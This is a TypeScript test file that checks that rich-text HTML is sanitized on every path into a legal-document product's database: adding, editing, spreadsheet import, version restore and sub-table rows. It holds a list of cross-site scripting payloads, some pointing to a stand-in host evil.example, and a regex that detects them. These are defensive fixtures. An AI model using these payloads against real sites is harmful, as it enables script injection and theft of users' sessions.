import { type ChangeLine, defineResource } from '@lexdesk/domain'
import { richText, rows, text } from '@lexdesk/domain/fields'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startTestProduct, type TestProduct } from '../../testing/testProduct.ts'
import { cleanedValues } from './columnValues.ts'
import { importing, sheetOf } from '../import/testing/importing.ts'

interface Row {
  id: string
  version: number
  body: string
}

let product: TestProduct
beforeAll(async () => {
  product = await startTestProduct()
})
afterAll(() => product?.close())

const path = '/test/specimen'
const add = async (body: string) => (await product.admin.post<Row>(`${path}/add`, { name: '样本', body })).result
const read = async (id: string) => (await product.admin.get<Row>(`${path}/queryById`, { id })).result

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>字</p>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href=" java&#x09;script:alert(1)">点</a>',
  '<p style="width:expression(alert(1));background:url(javascript:alert(1));position:fixed">字</p>',
  '<iframe src="https://evil.example" srcdoc="<script>1</script>"></iframe>',
  '<a href="data:text/html,<script>alert(1)</script>">点</a>',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<svg><script>alert(1)</script></svg><math href="javascript:alert(1)">1</math>',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:1">字</button></form>',
  '<object data="https://evil.example"></object><embed src="https://evil.example"><base href="https://evil.example">',
]
const dangerous =
  /script|onerror|onclick|onmouseover|expression|url\(|position|iframe|data:|svg|math|form|input|button|object|embed|base|evil/i

describe('HTML is sanitized on every path into the database', () => {
  test.each(attacks)('add: %s', async (attack) => {
    const row = await add(`<p>前</p>${attack}<p>后</p>`)
    expect(row.body).not.toMatch(dangerous)
    const stored = await read(row.id)
    expect(stored.body).not.toMatch(dangerous)
    expect(stored.body).toMatch(/^<p>前<\/p>.*<p>后<\/p>$/)
  })

  test('edit: unsafe HTML is sanitized, and a difference that is only unsafe HTML is no change', async () => {
    const row = await add('<p>旧</p>')
    const dirty = { id: row.id, body: `<p>新</p>${attacks.join('')}` }
    await product.admin.put(`${path}/edit`, dirty)
    const once = await read(row.id)
    expect(once.body).toContain('<p>新</p>')
    expect(once.body).not.toMatch(dangerous)
    await product.admin.put(`${path}/edit`, dirty)
    expect((await read(row.id)).version).toBe(once.version)
  })

  test('import: new rows and changed ones', async () => {
    const sheets = importing(product.admin, path)
    const code = 'RICH-1'
    for (const words of ['一', '二']) {
      const { batchId } = await sheets.preview(
        await sheetOf([
          ['名称', '编码', '正文'],
          ['导入的样本', code, `<p>${words}</p>${attacks.join('')}`],
        ]),
      )
      await sheets.commit(batchId)
      const [found] = await sheets.list({ code })
      const stored = await read(String(found!.id))
      expect(stored.body).toContain(`<p>${words}</p>`)
      expect(stored.body).not.toMatch(dangerous)
    }
  })

  test('an unsanitized old version is sanitized when it is restored', async () => {
    const row = await add('<p>甲</p>')
    await sql`update biz_specimen set body = ${`<p>旧</p>${attacks.join('')}`} where id = ${row.id}`.execute(
      product.app.engine.db.kysely,
    )
    await product.admin.put(`${path}/edit`, { id: row.id, body: '<p>乙</p>' })
    const { result: lines } = await product.admin.get<ChangeLine[]>(`${path}/history`, { id: row.id })
    await product.admin.post(`${path}/restoreVersion`, { id: row.id, line: lines.at(-1)!.id })
    const { body } = await read(row.id)
    expect(body).toContain('<p>旧</p>')
    expect(body).not.toMatch(dangerous)
  })
})

test('a text of the maximum length is sanitized, a longer one is refused with the name of its field', async () => {
  const longest = `<p>${'长'.repeat(300_000)}</p>`
  expect((await add(longest)).body).toBe(longest)
  const answer = await product.admin.post(`${path}/add`, { name: '样本', body: `<p>${'a'.repeat(500_001)}</p>` })
  expect(answer).toMatchObject({ success: false })
  expect(answer.message).toContain('正文')
})

test('rows of a sub-table are sanitized too', () => {
  const withRows = defineResource({
    name: 'letter',
    title: '函',
    path: '/test/letter',
    titleField: 'name',
    fields: { name: text('名称'), clauses: rows('条款', { body: richText('正文') }) },
  })
  expect(cleanedValues(withRows, { clauses: [{ body: '<p onclick="x()">甲</p>' }] })).toEqual({
    clauses: [{ body: '<p>甲</p>' }],
  })
})
